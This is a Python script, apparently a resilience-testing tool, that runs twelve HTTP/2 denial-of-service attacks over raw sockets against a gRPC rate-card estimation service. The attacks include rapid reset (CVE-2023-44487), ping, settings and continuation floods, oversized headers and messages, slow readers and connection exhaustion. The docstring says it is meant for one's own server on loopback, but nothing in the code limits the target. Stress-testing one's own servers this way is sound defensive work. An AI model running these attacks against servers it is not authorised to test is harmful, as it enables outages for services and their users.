"""What hostile peers do to a gRPC server, over bare sockets.

  attacks.py NAME HOST:PORT SECONDS

Goes on for so long, then ends; bounded in sockets and memory. To be used on a
server of one's own, on loopback.
"""

import contextlib
import os
import socket
import struct
import sys
import time

import http2_call as h2

BATCH = "/ratecard.v1.EstimateService/BatchEstimateCosts"
ESTIMATE = "/ratecard.v1.EstimateService/EstimateCost"
STREAM = "/ratecard.v1.EstimateService/StreamEstimateCosts"
PIECE = 16_384  # The largest frame that a peer must take.


def text(number, value):
    """A field of protobuf with bytes of at most 127 B."""
    return bytes([number << 3 | 2, len(value)]) + value


# 1,000,000 input tokens of a model, by field numbers of the proto files.
ONE_REQUEST = text(1, b"gpt-5.2-codex") + text(3, b"\x08\xc0\x84\x3d")


class Peer:
    """A connection that has begun to speak HTTP/2."""

    def __init__(self, address, settings=b""):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=5)
        self.socket.settimeout(0.2)
        self.next_stream = 1
        self.alive = True
        self.send(h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0, settings))

    def send(self, data):
        """Sends as much as the server takes within a moment."""
        try:
            self.socket.sendall(data)
        except TimeoutError:
            pass
        except OSError:
            self.alive = False

    def skim(self):
        """Reads what has come, without looking at it."""
        self.socket.setblocking(False)
        try:
            while True:
                data = self.socket.recv(1 << 16)
                if not data:
                    self.alive = False
                    return
        except BlockingIOError:
            pass
        except OSError:
            self.alive = False
        finally:
            self.socket.settimeout(0.2)

    def open(self, path, flags=h2.END_HEADERS):
        stream = self.next_stream
        self.next_stream += 2
        return stream, h2.frame(h2.HEADERS, flags, stream, h2.call_headers(path))


def rounds(seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        yield


def again(peer, address, settings=b""):
    """The peer, or a new one in the place of one that was hung up on."""
    if peer is not None and peer.alive:
        return peer
    with contextlib.suppress(OSError):
        return Peer(address, settings)
    time.sleep(0.01)
    return None


def rapid_reset(address, seconds):
    """Opens calls and resets them at once (CVE-2023-44487)."""
    peer = None
    for _ in rounds(seconds):
        peer = again(peer, address)
        if peer is None:
            continue
        burst = []
        for _ in range(100):
            stream, headers = peer.open(ESTIMATE)
            burst += [
                headers,
                h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message(ONE_REQUEST)),
                h2.frame(h2.RST_STREAM, 0, stream, struct.pack(">I", 8)),
            ]
        peer.send(b"".join(burst))
        peer.skim()


def ping_flood(address, seconds):
    peer = None
    for _ in rounds(seconds):
        peer = again(peer, address)
        if peer is not None:
            peer.send(h2.frame(h2.PING, 0, 0, b"\0" * 8) * 500)
            peer.skim()


def settings_flood(address, seconds):
    """Settings to acknowledge, and never reads the acknowledgements."""
    peer = None
    for _ in rounds(seconds):
        peer = again(peer, address)
        if peer is not None:
            peer.send(h2.frame(h2.SETTINGS, 0, 0) * 500)


def giant_headers(address, seconds):
    """Headers of 8 MB in one call."""
    peer = None
    filler = h2.header(b"x", b"y" * 127) * 126
    for _ in rounds(seconds):
        peer = again(None, address)
        if peer is None:
            continue
        stream, headers = peer.open(ESTIMATE, flags=0)
        peer.send(headers)
        for _ in range(512):
            if peer.alive:
                peer.send(h2.frame(h2.CONTINUATION, 0, stream, filler))
        peer.socket.close()


def continuation_flood(address, seconds):
    """Headers that never end, of frames without content."""
    peer = None
    for _ in rounds(seconds):
        if peer is None or not peer.alive:
            peer = again(peer, address)
            if peer is None:
                continue
            stream, headers = peer.open(ESTIMATE, flags=0)
            peer.send(headers)
        peer.send(h2.frame(h2.CONTINUATION, 0, stream) * 500)
        peer.skim()


def garbage(address, seconds):
    """Bytes that are no HTTP/2."""
    host, port = address.rsplit(":", 1)
    for _ in rounds(seconds):
        with contextlib.suppress(OSError):
            with socket.create_connection((host, int(port)), timeout=1) as peer:
                peer.settimeout(0.2)
                peer.sendall(os.urandom(4096))
                peer.recv(1)


def connection_flood(address, seconds):
    """As many connections as there are, which say nothing."""
    host, port = address.rsplit(":", 1)
    held = []
    for _ in rounds(seconds):
        with contextlib.suppress(OSError):
            held.append(socket.create_connection((host, int(port)), timeout=1))
        if len(held) > 800:
            for one in held[:200]:
                one.close()
            del held[:200]


def half_open(address, seconds):
    """Connections that begin HTTP/2, or half a frame, and stop."""
    peers = [again(None, address) for _ in range(100)]
    for peer in filter(None, peers):
        stream, headers = peer.open(ESTIMATE)
        peer.send(headers[: len(headers) // 2])
    time.sleep(seconds)


def huge_messages(address, seconds):
    """Messages that say they have 4 GB, and are sent."""
    for _ in rounds(seconds):
        peer = again(None, address)
        if peer is None:
            continue
        stream, headers = peer.open(ESTIMATE)
        peer.send(headers + h2.frame(h2.DATA, 0, stream, b"\0\xff\xff\xff\xff"))
        for _ in range(64):
            if peer.alive:
                peer.send(h2.frame(h2.DATA, 0, stream, b"x" * PIECE))
        peer.socket.close()


def slow_readers(address, seconds):
    """Asks for large answers and reads none of them."""
    item = text(1, ONE_REQUEST)
    batch = h2.message(item * 500)
    no_window = struct.pack(">HI", h2.INITIAL_WINDOW_SIZE, 0)
    peers = [again(None, address, no_window) for _ in range(8)]
    for _ in rounds(seconds):
        for i, peer in enumerate(peers):
            peers[i] = peer = again(peer, address, no_window)
            if peer is None:
                continue
            stream, headers = peer.open(BATCH)
            data = b"".join(
                h2.frame(
                    h2.DATA,
                    h2.END_STREAM if at + PIECE >= len(batch) else 0,
                    stream,
                    batch[at : at + PIECE],
                )
                for at in range(0, len(batch), PIECE)
            )
            peer.send(headers + data)
            peer.skim()
        time.sleep(0.01)


def idle_streams(address, seconds):
    """Opens streams, as many as it can, and sends nothing on them."""
    peer = None
    for _ in rounds(seconds):
        peer = again(peer, address)
        if peer is not None:
            peer.send(b"".join(peer.open(STREAM)[1] for _ in range(50)))
            peer.skim()
        time.sleep(0.02)


def trickle(address, seconds):
    """Sends calls byte by byte."""
    peers = [again(None, address) for _ in range(50)]
    texts = {}
    for peer in filter(None, peers):
        stream, headers = peer.open(ESTIMATE)
        texts[peer] = headers + h2.frame(
            h2.DATA, h2.END_STREAM, stream, h2.message(ONE_REQUEST)
        )
    at = 0
    for _ in rounds(seconds):
        for peer, data in texts.items():
            peer.send(data[at : at + 1])
        at += 1
        time.sleep(0.02)


ATTACKS = {
    function.__name__: function
    for function in (
        rapid_reset,
        ping_flood,
        settings_flood,
        giant_headers,
        continuation_flood,
        garbage,
        connection_flood,
        half_open,
        huge_messages,
        slow_readers,
        idle_streams,
        trickle,
    )
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](sys.argv[2], float(sys.argv[3]))
